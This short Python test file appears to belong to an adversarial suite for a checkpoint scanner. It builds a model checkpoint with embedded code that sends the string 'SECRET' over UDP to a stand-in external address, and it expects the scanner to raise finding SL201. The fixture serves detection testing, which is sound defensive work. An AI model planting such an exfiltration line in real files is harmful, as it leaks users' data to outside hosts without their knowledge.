"""Class: exfiltration. sendto names its destination and needs no connection."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, checkpoint, run

EXPECT = {"address": ADDRESS, "port": 514, "data": "SECRET", "finding": "SL201"}


def make(folder: Path) -> Path:
    source = "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'SECRET', ('203.0.113.7', 514))"
    return checkpoint(folder, run(source))
